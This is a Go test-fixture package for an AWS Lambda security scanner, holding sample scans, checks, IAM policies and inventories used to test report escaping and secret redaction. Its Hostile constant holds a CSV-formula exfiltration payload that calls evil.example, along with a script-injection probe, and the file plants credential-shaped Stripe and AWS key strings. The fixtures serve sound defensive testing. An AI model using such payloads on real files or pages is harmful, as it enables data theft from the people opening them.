// Package reporttest holds hand-built scans, catalogs and inventories that
// the report writers' and the evidence pack's tests share. It covers every
// status, every severity, waivers (with and without expiry, expired),
// results with and without a location, package and account results, input
// errors and redacted secrets. It is imported by tests only.
package reporttest

import (
	"strconv"

	"github.com/lambdawarden/lambdawarden/internal/checks"
	"github.com/lambdawarden/lambdawarden/internal/iampolicy"
	"github.com/lambdawarden/lambdawarden/internal/inventory"
	"github.com/lambdawarden/lambdawarden/internal/result"
	"github.com/lambdawarden/lambdawarden/internal/srcloc"
)

// Secrets are the credential-shaped values planted in the fixtures (in
// environment variables). Built by concatenation so that no literal
// credential is committed. No report or evidence file may contain them.
func Secrets() []string {
	return []string{stripeKey(), awsSecretKey()}
}

func stripeKey() string    { return "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc" }
func awsSecretKey() string { return "wJalrXUtnFEMI" + "/K7MDENG/" + "bPxRfiCY" + "EXAMPLEKEY" }

// Redact is the project's redaction of a secret value for messages: the first
// four characters, then ****, then the length.
func Redact(v string) string {
	r := []rune(v)
	head := r
	if len(r) > 4 {
		head = r[:4]
	}
	return string(head) + "****, " + strconv.Itoa(len(r)) + " chars"
}

// Hostile is a string with HTML, XML, CSV-formula and control characters,
// used in waiver reasons and messages to test escaping.
const Hostile = `=HYPERLINK("http://evil.example/?x="&A1) <script>alert('x')</script> & "q" ` + "\x01\x7f"

// Checks returns a catalog subset with the real IDs, titles, severities and
// SOC 2 criteria of the check spec (logic omitted).
func Checks() []*checks.Check {
	tf := []inventory.Family{inventory.FamilyTF, inventory.FamilyCFN, inventory.FamilySLS, inventory.FamilyLIVE}
	pkg := []inventory.Family{inventory.FamilyTF, inventory.FamilyCFN, inventory.FamilySLS, inventory.FamilyPKG}
	live := []inventory.Family{inventory.FamilyLIVE}
	return []*checks.Check{
		{ID: "LW-ACC-01", Title: "CloudTrail records management events in every region", Severity: result.High,
			Controls: []string{"CC7.2"}, Families: live,
			Semantics:   "FAIL unless a multi-region trail is logging.",
			Remediation: "Create a multi-region CloudTrail trail and keep it logging."},
		{ID: "LW-IAM-02", Title: "No administrator-level policy", Severity: result.Critical,
			Controls: []string{"CC6.3"}, Families: tf,
			Semantics:   "FAIL if the role has AdministratorAccess, PowerUserAccess or IAMFullAccess attached, or any Allow statement equivalent to `*` on `*`.",
			Remediation: "Replace the policy with one that grants only the actions and resources the function uses (see `lambdawarden policy generate`)."},
		{ID: "LW-INV-01", Title: "Not invocable by the public", Severity: result.Critical,
			Controls: []string{"CC6.1", "CC6.6"}, Families: tf,
			Semantics:   "FAIL if the resource-based policy allows `*` without a condition that pins the caller.",
			Remediation: "Remove the public permission or add aws:SourceArn / aws:SourceAccount conditions."},
		{ID: "LW-INV-07", Title: "Reserved concurrency set", Severity: result.Low,
			Controls: []string{"A1.2"}, Families: tf,
			Semantics:   "FAIL if the function has no reserved concurrency.",
			Remediation: "Set reserved_concurrent_executions, or waive with a reason where unbounded scaling is wanted."},
		{ID: "LW-LOG-01", Title: "Log group retention set", Severity: result.Medium,
			Controls: []string{"CC7.2"}, Families: tf,
			Semantics:   "FAIL if the function's log group has no retention, or (IaC) is not declared.",
			Remediation: "Declare the log group /aws/lambda/NAME with retention_in_days."},
		{ID: "LW-LOG-07", Title: "Lambda Insights enabled", Severity: result.Info,
			Controls: []string{"CC7.2"}, Families: tf,
			Semantics:   "FAIL if no LambdaInsightsExtension layer is attached.",
			Remediation: "Attach the LambdaInsightsExtension layer for your region."},
		{ID: "LW-NET-02", Title: "VPC function spans several AZs", Severity: result.Medium,
			Controls: []string{"A1.2"}, Families: tf,
			Semantics:   "FAIL if a VPC function's subnets are all in one Availability Zone.",
			Remediation: "Attach subnets in at least two Availability Zones."},
		{ID: "LW-RUN-01", Title: "Runtime supported", Severity: result.High,
			Controls: []string{"CC7.1"}, Families: tf,
			Semantics:   "FAIL if the runtime's deprecation date has passed.",
			Remediation: "Move the function to a supported runtime."},
		{ID: "LW-SEC-01", Title: "No plaintext secrets in environment variables", Severity: result.Critical,
			Controls: []string{"CC6.1", "C1.1"}, Families: tf,
			Semantics:   "FAIL if an environment variable's value matches a known credential format. The message redacts the value.",
			Remediation: "Store the value in Secrets Manager and pass its ARN; fetch and cache it at runtime."},
		{ID: "LW-SEC-05", Title: "No secrets in the deployment package", Severity: result.Critical,
			Controls: []string{"C1.1", "CC6.1"}, Families: pkg,
			Semantics:   "FAIL for each file in a package or layer holding a credential or private key.",
			Remediation: "Remove the file from the package and rotate the credential."},
	}
}

// mk builds a result with the metadata of the check.
func mk(id string, st result.Status, res result.Resource, loc *srcloc.Location, msg string) result.Result {
	for _, c := range Checks() {
		if c.ID == id {
			return result.Result{CheckID: id, Title: c.Title, Severity: c.Severity, Status: st, Resource: res,
				Location: loc, Message: msg, Controls: append([]string(nil), c.Controls...), Remediation: c.Remediation}
		}
	}
	panic("reporttest: no check " + id)
}

func at(file string, line, col int) *srcloc.Location {
	return &srcloc.Location{File: file, Line: line, Column: col}
}

var (
	resAPI = result.Resource{Kind: result.KindFunction, ID: "aws_lambda_function.api", Name: "orders-api"}
	resImg = result.Resource{Kind: result.KindFunction, ID: `aws_lambda_function.batch_worker["img"]`, Name: "batch-img"}
	resCFN = result.Resource{Kind: result.KindFunction, ID: "Nested.OrdersFn", Name: "orders/fn nested"}
	resPay = result.Resource{Kind: result.KindFunction, ID: "arn:aws:lambda:eu-west-1:123456789012:function:payments",
		Name: "payments", ARN: "arn:aws:lambda:eu-west-1:123456789012:function:payments", Account: "123456789012", Region: "eu-west-1"}
	resAcc = result.Resource{Kind: result.KindAccount, ID: "123456789012", Name: "123456789012", Account: "123456789012", Region: "eu-west-1"}
	resPkg = result.Resource{Kind: result.KindPackage, ID: "build/api.zip:config/.env", Name: "orders-api"}
)

// Scan returns a scan with every status, severity and waiver shape. Its
// results are sorted in output order.
func Scan() *result.Scan {
	expired := mk("LW-INV-07", result.Fail, resAPI, at("infra/main.tf", 12, 3),
		"function has no reserved concurrency (waiver expired 2025-01-31)")
	expired.Waiver = &result.Waiver{Reason: "launch week traffic", Expires: "2025-01-31", Source: "infra/main.tf:10", Expired: true}
	waived := mk("LW-INV-07", result.Waived, resImg, at("infra/workers.tf", 3, 1), "function has no reserved concurrency")
	waived.Waiver = &result.Waiver{Reason: "bounded by the SQS batch size", Expires: "2027-06-30", Source: "config"}
	waivedNoExpiry := mk("LW-RUN-01", result.Waived, resCFN, at("stacks/template.yaml", 40, 5),
		"runtime nodejs16.x was deprecated on 2024-06-12")
	waivedNoExpiry.Waiver = &result.Waiver{Reason: Hostile, Source: "stacks/template.yaml:44"}
	rs := []result.Result{
		mk("LW-SEC-01", result.Fail, resAPI, at("infra/main.tf", 12, 3),
			"environment variable STRIPE_KEY holds what looks like a Stripe live key ("+Redact(stripeKey())+")"),
		mk("LW-IAM-02", result.Fail, resAPI, at("infra/iam.tf", 30, 5),
			"role aws_iam_role.api has AdministratorAccess attached (aws_iam_role_policy_attachment.admin)"),
		mk("LW-INV-01", result.Pass, resAPI, at("infra/main.tf", 12, 3), "no permission lets the public invoke the function"),
		expired,
		mk("LW-LOG-01", result.Unknown, resImg, at("infra/workers.tf", 3, 1),
			"log group name is unknown (function name known only after apply)"),
		waived,
		waivedNoExpiry,
		mk("LW-SEC-05", result.Fail, resPkg, at("build/api.zip", 0, 0),
			"config/.env holds an AWS secret access key ("+Redact(awsSecretKey())+")"),
		mk("LW-SEC-05", result.Fail, result.Resource{Kind: result.KindPackage, ID: "src/api/handler.js", Name: "orders-api"},
			at("src/api dir/handler.js", 7, 14), "+hard-coded private key (-----BEGIN ****, 1679 chars) "+"\u00e9\u4e2d"),
		mk("LW-ACC-01", result.Fail, resAcc, nil, "no multi-region trail is logging in eu-west-1"),
		mk("LW-LOG-07", result.Fail, resPay, nil, "no LambdaInsightsExtension layer is attached"),
		mk("LW-NET-02", result.Unknown, resPay, nil, "Availability Zone of subnet subnet-0abc is unknown (ec2:DescribeSubnets denied)"),
		mk("LW-RUN-01", result.Pass, resPay, nil, "runtime python3.12 is supported"),
	}
	high := mk("LW-RUN-01", result.Fail, resImg, at("infra/workers.tf", 9, 3), "runtime python3.8 was deprecated on 2024-10-14")
	high.Severity = result.High
	rs = append(rs, high)
	result.Sort(rs)
	return &result.Scan{
		Tool: result.Tool{Name: "lambdawarden", Version: "0.1.0"},
		Sources: []inventory.Source{
			{Kind: inventory.Terraform, Path: "infra"},
			{Kind: inventory.CloudFormation, Path: "stacks/template.yaml"},
			{Kind: inventory.PackageSource, Path: "build/api.zip"},
			{Kind: inventory.LiveAWS, Path: "123456789012/eu-west-1"},
		},
		Functions: 5,
		Results:   rs,
		Errors: []inventory.Error{
			{Source: "infra/broken.tf", Line: 4, Message: `Unclosed configuration block: there is no closing brace for this block before the end of the file`},
			{Source: "123456789012/eu-west-1 lambda:GetPolicy", Message: "AccessDenied: not authorized to perform lambda:GetPolicy"},
		},
		Accounts:  []string{"123456789012"},
		Regions:   []string{"eu-west-1"},
		Timestamp: "2026-11-21T10:00:00Z",
	}
}

// CleanScan is a scan without errors, waivers or failures (one PASS).
func CleanScan() *result.Scan {
	return &result.Scan{
		Tool:      result.Tool{Name: "lambdawarden", Version: "0.1.0"},
		Sources:   []inventory.Source{{Kind: inventory.Terraform, Path: "infra"}},
		Functions: 1,
		Results:   []result.Result{mk("LW-INV-01", result.Pass, resAPI, at("infra/main.tf", 12, 3), "not public")},
	}
}

func loc(file string, line int) srcloc.Location { return srcloc.Location{File: file, Line: line} }

func of[T any](v T, file string, line int) inventory.Value[T] {
	return inventory.Of(v, loc(file, line))
}

func str[T any](v T) inventory.Value[T] { return inventory.Of(v, srcloc.Location{}) }

// ManagedPolicies stands in for the embedded AWS-managed policy snapshot.
func ManagedPolicies(nameOrARN string) (*iampolicy.ManagedPolicy, bool) {
	switch nameOrARN {
	case "arn:aws:iam::aws:policy/AdministratorAccess", "AdministratorAccess":
		return &iampolicy.ManagedPolicy{Name: "AdministratorAccess", ARN: "arn:aws:iam::aws:policy/AdministratorAccess",
			Path: "/", Version: "v1", Updated: "2015-02-06T18:39:46Z",
			Document: &iampolicy.Policy{Version: "2012-10-17", Statements: []iampolicy.Statement{
				{Effect: iampolicy.Allow, Actions: []string{"*"}, Resources: []string{"*"}}}}}, true
	case "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole", "AWSLambdaBasicExecutionRole":
		return &iampolicy.ManagedPolicy{Name: "AWSLambdaBasicExecutionRole",
			ARN:  "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole",
			Path: "/service-role/", Version: "v1", Updated: "2015-04-09T15:03:43Z",
			Document: &iampolicy.Policy{Version: "2012-10-17", Statements: []iampolicy.Statement{
				{Effect: iampolicy.Allow, Actions: []string{"logs:CreateLogGroup", "logs:CreateLogStream", "logs:PutLogEvents"},
					Resources: []string{"*"}}}}}, true
	}
	return nil, false
}

func lambdaTrust() *iampolicy.Policy {
	return &iampolicy.Policy{Version: "2012-10-17", Statements: []iampolicy.Statement{{
		Effect: iampolicy.Allow, Actions: []string{"sts:AssumeRole"},
		Principal: &iampolicy.Principal{Service: []string{"lambda.amazonaws.com"}}}}}
}

// Inventory is the inventory behind Scan: five functions (two named
// orders-api, one with a slash and a space in its name), roles with inline,
// customer-managed, AWS-managed, unknown and unresolvable policies,
// permissions, a function URL and log groups. Two environment variables hold
// the values of Secrets.
func Inventory() *inventory.Inventory {
	api := &inventory.Function{
		Item: inventory.Item{ID: "aws_lambda_function.api", Source: inventory.Terraform, Origin: "infra", Loc: loc("infra/main.tf", 12)},
		Name: of("orders-api", "infra/main.tf", 13), Runtime: of("python3.12", "infra/main.tf", 15),
		Handler: of("app.handler", "infra/main.tf", 16), PackageType: of("Zip", "infra/main.tf", 12),
		Role: of(inventory.Ref{ID: "aws_iam_role.api"}, "infra/main.tf", 14),
		Environment: of([]inventory.EnvVar{
			{Name: "STRIPE_KEY", Value: of(stripeKey(), "infra/main.tf", 20)},
			{Name: "LOG_LEVEL", Value: of("info", "infra/main.tf", 21)},
			{Name: "DB_PASSWORD_ARN", Value: inventory.UnknownValue[string]("known after apply", loc("infra/main.tf", 22)), Reference: true},
		}, "infra/main.tf", 19),
		TracingMode:    of("PassThrough", "infra/main.tf", 12),
		TimeoutSeconds: of(30, "infra/main.tf", 17), MemoryMB: of(512, "infra/main.tf", 18),
		Tags:    of(map[string]string{"team": "orders", "env": "prod"}, "infra/main.tf", 25),
		Package: of(inventory.PackageRef{Path: "build/api.zip"}, "infra/main.tf", 26),
	}
	img := &inventory.Function{
		Item:        inventory.Item{ID: `aws_lambda_function.batch_worker["img"]`, Source: inventory.Terraform, Origin: "infra", Loc: loc("infra/workers.tf", 3)},
		Name:        inventory.UnknownValue[string]("known after apply", loc("infra/workers.tf", 4)),
		Runtime:     of("python3.8", "infra/workers.tf", 9),
		Role:        inventory.UnknownValue[inventory.Ref]("variable var.role_arn has no value", loc("infra/workers.tf", 5)),
		Environment: inventory.UnknownValue[[]inventory.EnvVar]("merge() of unknown map", loc("infra/workers.tf", 6)),
	}
	cfn := &inventory.Function{
		Item:    inventory.Item{ID: "Nested.OrdersFn", Source: inventory.CloudFormation, Origin: "stacks/template.yaml", Loc: loc("stacks/template.yaml", 40)},
		Name:    of("orders/fn nested", "stacks/template.yaml", 42),
		Runtime: of("nodejs16.x", "stacks/template.yaml", 43),
		Role:    of(inventory.Ref{Name: "arn:aws:iam::123456789012:role/shared-deploy"}, "stacks/template.yaml", 44),
	}
	pay := &inventory.Function{
		Item: inventory.Item{ID: "arn:aws:lambda:eu-west-1:123456789012:function:payments", Source: inventory.LiveAWS,
			Origin: "123456789012/eu-west-1", Account: "123456789012", Region: "eu-west-1"},
		Name: str("payments"), ARN: "arn:aws:lambda:eu-west-1:123456789012:function:payments",
		Runtime: str("python3.12"), Handler: str("main.handler"),
		Role: str(inventory.Ref{Name: "arn:aws:iam::123456789012:role/payments-exec"}),
		Environment: str([]inventory.EnvVar{
			{Name: "AWS_SECRET_ACCESS_KEY", Value: str(awsSecretKey())},
			{Name: "REGION_NAME", Value: str("eu-west-1")},
		}),
		ReservedConcurrency: str(10),
		VPC:                 str(inventory.VPCConfig{Subnets: str([]inventory.Value[inventory.Ref]{str(inventory.Ref{Name: "subnet-0abc"})})}),
	}
	liveAPI := &inventory.Function{
		Item: inventory.Item{ID: "arn:aws:lambda:eu-west-1:123456789012:function:orders-api", Source: inventory.LiveAWS,
			Origin: "123456789012/eu-west-1", Account: "123456789012", Region: "eu-west-1"},
		Name: str("orders-api"), ARN: "arn:aws:lambda:eu-west-1:123456789012:function:orders-api",
		Role: str(inventory.Ref{Name: "arn:aws:iam::123456789012:role/payments-exec"}),
	}
	roleAPI := &inventory.Role{
		Item:        inventory.Item{ID: "aws_iam_role.api", Source: inventory.Terraform, Origin: "infra", Loc: loc("infra/iam.tf", 1)},
		Name:        of("orders-api-role", "infra/iam.tf", 2),
		TrustPolicy: of(lambdaTrust(), "infra/iam.tf", 3),
		Inline: []inventory.InlinePolicy{{Name: "dynamo", Loc: loc("infra/iam.tf", 12), Document: of(&iampolicy.Policy{
			Version: "2012-10-17", Statements: []iampolicy.Statement{{
				Sid: "Orders", Effect: iampolicy.Allow, Actions: []string{"dynamodb:GetItem", "dynamodb:PutItem"},
				Resources:  []string{"arn:aws:dynamodb:<region>:<account>:table/orders"},
				Conditions: []iampolicy.Condition{{Operator: "StringEquals", Key: "aws:RequestedRegion", Values: []string{"eu-west-1"}}},
			}, {
				Effect: iampolicy.Allow, NotActions: []string{"iam:*"}, NotActionSet: true, Resources: []string{"*"},
				Unknown: []string{"Resource"},
			}}}, "infra/iam.tf", 13)}},
		Attached: []inventory.PolicyAttachment{
			{Policy: of(inventory.Ref{Name: "arn:aws:iam::aws:policy/AdministratorAccess"}, "infra/iam.tf", 30), Loc: loc("infra/iam.tf", 29)},
			{Policy: of(inventory.Ref{Name: "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"}, "infra/iam.tf", 35)},
			{Policy: of(inventory.Ref{ID: "aws_iam_policy.extra"}, "infra/iam.tf", 40)},
			{Policy: of(inventory.Ref{Name: "arn:aws:iam::aws:policy/NotInTheSnapshotAccess"}, "infra/iam.tf", 45)},
			{Policy: of(inventory.Ref{Name: "arn:aws:iam::999999999999:policy/elsewhere"}, "infra/iam.tf", 50)},
			{Policy: inventory.UnknownValue[inventory.Ref]("var.extra_policy_arn has no value", loc("infra/iam.tf", 55))},
		},
		PoliciesComplete: of(true, "infra/iam.tf", 1),
	}
	rolePay := &inventory.Role{
		Item: inventory.Item{ID: "arn:aws:iam::123456789012:role/payments-exec", Source: inventory.LiveAWS,
			Origin: "123456789012/eu-west-1", Account: "123456789012"},
		Name: str("payments-exec"), ARN: "arn:aws:iam::123456789012:role/payments-exec",
		TrustPolicy: str(&iampolicy.Policy{Version: "2012-10-17", Statements: []iampolicy.Statement{{
			Effect: iampolicy.Allow, Actions: []string{"sts:AssumeRole"}, Principal: &iampolicy.Principal{Wildcard: true}}}}),
		Attached: []inventory.PolicyAttachment{
			{Policy: str(inventory.Ref{Name: "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"})}},
		Boundary:         str("arn:aws:iam::123456789012:policy/boundary"),
		PoliciesComplete: inventory.UnknownValue[bool]("iam:ListRolePolicies denied", srcloc.Location{}),
	}
	extra := &inventory.ManagedPolicy{
		Item: inventory.Item{ID: "aws_iam_policy.extra", Source: inventory.Terraform, Origin: "infra", Loc: loc("infra/iam.tf", 60)},
		Name: of("orders-extra", "infra/iam.tf", 61),
		Document: of(&iampolicy.Policy{Version: "2012-10-17", Statements: []iampolicy.Statement{{
			Effect: iampolicy.Allow, Actions: []string{"s3:GetObject"}, Resources: []string{"arn:aws:s3:::orders-bucket/*"}}}},
			"infra/iam.tf", 62),
	}
	perm := &inventory.Permission{
		Item:     inventory.Item{ID: "aws_lambda_permission.apigw", Source: inventory.Terraform, Origin: "infra", Loc: loc("infra/api.tf", 5)},
		Function: of(inventory.Ref{ID: "aws_lambda_function.api"}, "infra/api.tf", 7),
		Statement: iampolicy.Statement{Sid: "AllowAPIGateway", Effect: iampolicy.Allow, Actions: []string{"lambda:InvokeFunction"},
			Principal: &iampolicy.Principal{Service: []string{"apigateway.amazonaws.com"}},
			Conditions: []iampolicy.Condition{{Operator: "ArnLike", Key: "AWS:SourceArn",
				Values: []string{"arn:aws:execute-api:<region>:<account>:abc123/*/*/orders"}}}},
	}
	publicPerm := &inventory.Permission{
		Item: inventory.Item{ID: "arn:aws:lambda:eu-west-1:123456789012:function:payments#public", Source: inventory.LiveAWS,
			Origin: "123456789012/eu-west-1", Account: "123456789012", Region: "eu-west-1"},
		Function: str(inventory.Ref{Name: "arn:aws:lambda:eu-west-1:123456789012:function:payments"}),
		Statement: iampolicy.Statement{Sid: "public", Effect: iampolicy.Allow, Actions: []string{"lambda:InvokeFunctionUrl"},
			Principal: &iampolicy.Principal{Wildcard: true}},
	}
	url := &inventory.FunctionURL{
		Item:     inventory.Item{ID: "arn:aws:lambda:eu-west-1:123456789012:function:payments#url", Source: inventory.LiveAWS, Origin: "123456789012/eu-west-1"},
		Function: str(inventory.Ref{Name: "payments"}), AuthType: str("NONE"),
		CORSAllowOrigins: str([]string{"*"}),
	}
	lgAPI := &inventory.LogGroup{
		Item: inventory.Item{ID: "aws_cloudwatch_log_group.api", Source: inventory.Terraform, Origin: "infra", Loc: loc("infra/logs.tf", 1)},
		Name: of("/aws/lambda/orders-api", "infra/logs.tf", 2), RetentionDays: of(14, "infra/logs.tf", 3),
	}
	lgPay := &inventory.LogGroup{
		Item: inventory.Item{ID: "arn:aws:logs:eu-west-1:123456789012:log-group:/aws/lambda/payments", Source: inventory.LiveAWS,
			Origin: "123456789012/eu-west-1", Account: "123456789012", Region: "eu-west-1"},
		Name: str("/aws/lambda/payments"),
	}
	s := Scan()
	return &inventory.Inventory{
		Sources:         s.Sources,
		Functions:       []*inventory.Function{api, img, cfn, pay, liveAPI},
		Roles:           []*inventory.Role{roleAPI, rolePay},
		ManagedPolicies: []*inventory.ManagedPolicy{extra},
		Permissions:     []*inventory.Permission{perm, publicPerm},
		FunctionURLs:    []*inventory.FunctionURL{url},
		LogGroups:       []*inventory.LogGroup{lgAPI, lgPay},
		Errors:          s.Errors,
	}
}
